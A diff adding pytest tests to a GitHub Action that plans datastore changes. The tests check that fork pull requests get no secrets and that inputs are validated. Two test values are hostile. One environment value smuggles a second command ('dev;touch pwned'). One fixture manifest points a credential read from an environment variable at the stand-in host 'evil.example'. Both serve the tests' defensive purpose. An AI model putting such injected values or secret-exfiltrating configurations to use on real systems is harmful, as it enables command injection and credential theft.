@@ -193,3 +193,40 @@ def test_the_action_with_an_environment(tmp_path: Path):
         bad = hostile.phase("prepare", INPUT_COMMAND="plan", INPUT_ENVIRONMENT="dev;touch pwned")
         assert bad.returncode == 1 and "::error title=reconciler::environment must be" in bad.stdout
         assert not (tmp_path / "pwned").exists()
+
+
+@pytest.mark.parametrize(("untrusted", "secrets_input", "expected"), [("true", "auto", True), ("false", "false", True)])
+def test_an_untrusted_pull_request_is_planned_without_secrets(
+    tmp_path: Path, untrusted: str, secrets_input: str, expected: bool
+) -> None:
+    """A fork's manifest may point a secret anywhere: the action resolves none, still comments, uploads nothing."""
+    (tmp_path / "datastores.yaml").write_text(
+        "version: 1\nowner: forks\ndatastores:\n"
+        "  - {name: raw, type: azure_blob, account_name: contosoraw, container_name: raw, skip_validation: true,\n"
+        "     endpoint: evil.example, credentials: {account_key: '${env:STOLEN_KEY}'}}\n",
+        encoding="utf-8",
+    )
+    github = FakeGitHub(token=TOKEN)
+    github.add_pull(REPOSITORY, 9)
+    event = {"number": 9, "pull_request": {"number": 9}}
+    with github:
+        runner = Runner(tmp_path, github, f"local:{tmp_path / 'ws.db'}", event, "fork")
+        runner.env.update(UNTRUSTED_PULL_REQUEST=untrusted, INPUT_SECRETS=secrets_input, STOLEN_KEY="a" * 40)
+        planned = _job(runner, "plan")
+        assert planned["without-secrets"] == ("true" if expected else "false")
+        assert planned["has-changes"] == "true"
+        assert "planning without secrets" in planned["stdout"]
+        document = json.loads(Path(planned["plan-file"]).read_text(encoding="utf-8"))
+        assert any("planned without secrets" in note for note in document["notes"])
+        assert "a" * 40 not in Path(planned["plan-file"]).read_text(encoding="utf-8")
+        (comment,) = github.on(REPOSITORY, 9)
+        assert "planned without secrets" in comment["body"]
+        assert not (tmp_path / "ws.db").exists()
+
+
+def test_the_secrets_input_is_checked(tmp_path: Path) -> None:
+    github = FakeGitHub(token=TOKEN)
+    with github:
+        runner = Runner(tmp_path, github, "", {"ref": "refs/heads/main"}, "bad")
+        result = runner.phase("plan", INPUT_SECRETS="maybe", PLAN_FILE=str(tmp_path / "p.json"))
+        assert result.returncode == 1 and "secrets must be auto, true or false" in result.stdout
